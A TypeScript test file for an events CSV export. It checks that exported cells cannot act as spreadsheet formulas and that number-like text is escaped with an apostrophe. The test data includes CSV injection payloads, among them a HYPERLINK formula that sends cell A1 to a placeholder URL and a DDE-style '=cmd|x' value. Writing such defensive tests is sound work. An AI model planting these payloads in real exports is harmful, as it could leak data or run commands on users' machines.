import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { apiFile } from '../../../../src/publish/data/index.ts';
import { textCell } from '../../../../src/publish/data/text-cell.ts';
import { catalogueOf, eventWith } from '../../../support/catalogue.ts';
import { eventsCsv, options, read, single } from './read-csv.ts';

describe('no cell is a live formula', () => {
	/** As a spreadsheet set to any of these separators would cut the file, quotes or not. */
	const live = (text: string) =>
		text
			.replace(/^\uFEFF/, '')
			.split(/[,;\t\r\n]/)
			.map((cell) => cell.replace(/^[\s"]+/, ''))
			.filter((cell) => /^[=+\-@＝＋－＠]/.test(cell));
	const formulas = [
		'=HYPERLINK("https://example.org/?"&A1;"Mời bấm")',
		'+84 234',
		'-1+1',
		'@SUM(1)',
		'＝1+1',
		'\t=1+1',
		'xin chào;=1+1',
		'xin chào; =cmd|x',
	];
	test.each(formulas)('%j', (formula) => {
		const csv = eventsCsv({ when: single, title: { vi: formula.trim(), en: 'A' } });
		expect(live(csv)).toEqual([]);
		expect(read(csv)).toHaveLength(1);
	});
	test('whatever the text', () => {
		const catalogue = catalogueOf({ events: [eventWith({ when: single })] });
		const [event] = catalogue.records.events;
		if (!event) throw new Error('no event');
		const nasty = fc.string({
			unit: fc.constantFrom(
				'=',
				'+',
				'-',
				'@',
				';',
				'\t',
				'\n',
				'\r',
				'"',
				"'",
				' ',
				'a',
				'|',
				'\u202e',
				'\u200f',
				'\0',
			),
		});
		const texts = fc.array(fc.oneof(nasty, fc.string({ unit: 'binary' })), { minLength: 1, maxLength: 20 });
		fc.assert(
			fc.property(texts, (titles) => {
				const events = titles.map((title) => ({
					...event,
					title: { vi: title, en: title },
					booking: undefined,
				}));
				const csv = apiFile(
					{ ...catalogue, records: { ...catalogue.records, events } },
					'events.csv',
					options,
				);
				const rows = read(csv);
				expect(rows.map(({ id }) => id)).toEqual(titles.map(() => 'noi-chuyen'));
				for (const { title_vi = '' } of rows) {
					expect(title_vi).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
					expect(title_vi).not.toMatch(/;[\s\p{Cf}]*[=+\-@＝＋－＠]/u);
					expect(title_vi).not.toMatch(/\p{Cc}/u);
				}
			}),
			{ numRuns: 6 },
		);
		// Some hundred rows of a hundred columns each: on a busy machine that takes its time.
	}, 30_000);
});

describe('a text that a spreadsheet would take for something else', () => {
	test.each([
		'02343822425',
		'00001',
		'21-4',
		'1.5',
		'1,000',
		'1900.1234',
		'(123)',
		'50%',
		'1 234 567',
		'1 1/2',
		'2026-12-05 08:00',
		'1e5',
		'may-10',
		'3 Mar 2026',
		'8 pm',
		'TRUE',
		'.0e0',
		'1.e2',
		'１２',
		'$5',
		'+84 234',
		'=1+1',
		"'tis",
	])('%j gets one apostrophe', (text) => expect(textCell(text)).toBe(`'${text}`));
	test.each([
		'0234 3822 425',
		'hue-1975',
		'mayor-3',
		'50.000đ',
		'6 | 7',
		'lớp 6',
		'Số 1',
		'https://a.vn/1',
		'',
	])('%j gets none', (text) => expect(textCell(text)).toBe(text));
	test('whatever it is, comes back from Papa by taking one off', () => {
		const line = fc
			.string({
				unit: fc.constantFrom('0', '7', '.', '-', '/', ',', "'", '"', '=', ' ', 'e', 'đ', '|', ':', 'may'),
			})
			.map((text) => text.replace(/\s+/g, ' '));
		fc.assert(
			fc.property(line, (text) => {
				const [[cell = ''] = []] = Papa.parse<string[]>(Papa.unparse([[textCell(text), 'x']]), {
					delimiter: ',',
				}).data;
				expect(cell.replace(/^'/, '')).toBe(text);
				expect(Number.isNaN(Number(cell)) || cell.trim() === '').toBe(true);
			}),
		);
	});
});

test('long text comes through whole', () => {
	const long = 'Ế'.repeat(10_000);
	const catalogue = catalogueOf({ events: [eventWith({ when: single })] });
	const events = catalogue.records.events.map((event) => ({ ...event, title: { vi: long } }));
	const csv = apiFile({ ...catalogue, records: { ...catalogue.records, events } }, 'events.csv', options);
	expect(read(csv)[0]?.title_vi).toBe(long);
});
